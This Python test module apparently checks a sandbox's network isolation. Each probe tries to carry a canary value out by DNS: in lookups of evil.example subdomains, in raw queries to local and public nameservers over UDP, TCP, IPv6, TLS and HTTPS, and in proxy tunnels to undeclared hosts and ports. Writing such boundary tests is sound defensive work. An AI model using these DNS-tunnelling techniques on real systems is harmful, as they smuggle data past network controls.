"""Names: what is asked for goes nowhere, whoever is asked."""

import socket

from attacks.probes.tools import CANARY, NAMESERVER, attack, open_tls, open_tunnel, send_datagram, send_stream


def question(name: str, kind: int) -> bytes:
    """Write a question (RFC 1035 section 4)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\0" + bytes([0, kind, 0, 1])


@attack("boundary")
def label() -> None:
    """A name that is looked up does not carry a word out."""
    socket.getaddrinfo(f"{CANARY}.evil.example", 443)


@attack("boundary")
def under_a_wildcard() -> None:
    """Nor does one below a wildcard that is allowed, as long as nothing connects to it."""
    socket.getaddrinfo(f"{CANARY}.wild.example", 443)


@attack("boundary")
def text_record() -> None:
    """No kind of question is passed on to the machine's nameserver."""
    send_datagram(NAMESERVER, 53, question(f"{CANARY}.evil.example", 16))


@attack("boundary")
def another_nameserver() -> None:
    """Nor to any other one."""
    send_datagram("8.8.8.8", 53, question(f"{CANARY}.evil.example", 1))


@attack("boundary")
def nameserver_over_ipv6() -> None:
    """Nor over IPv6."""
    send_datagram("2001:4860:4860::8888", 53, question(f"{CANARY}.evil.example", 28))


@attack("boundary")
def nameserver_of_this_machine() -> None:
    """Nor to one that listens on loopback outside."""
    send_datagram("127.0.0.1", 53, question(f"{CANARY}.evil.example", 1))


@attack("boundary")
def over_tcp() -> None:
    """Nor over TCP."""
    asked = question(f"{CANARY}.evil.example", 1)
    send_stream(NAMESERVER, 53, len(asked).to_bytes(2, "big") + asked)


@attack("boundary")
def over_tls() -> None:
    """DNS over TLS reaches nobody (RFC 7858)."""
    with socket.create_connection((NAMESERVER, 853), 4) as out, open_tls(out, "dns.example") as inside:
        inside.sendall(CANARY.encode())


@attack("boundary")
def over_https() -> None:
    """DNS over HTTPS reaches nobody that is not declared (RFC 8484)."""
    with socket.create_connection((NAMESERVER, 443), 4) as out, open_tls(out, "dns.example") as inside:
        inside.sendall(f"GET /dns-query?dns={CANARY} HTTP/1.1\r\nHost: dns.example\r\n\r\n".encode())


@attack("rules")
def of_a_host_not_declared() -> None:
    """The proxy decides before it looks a name up, so that its own question carries nothing out."""
    open_tunnel(f"{CANARY}.evil.example:443")


@attack("rules")
def of_a_port_not_declared() -> None:
    """And asks nothing about a name whose port is not allowed."""
    open_tunnel(f"{CANARY}.wild.example:22")
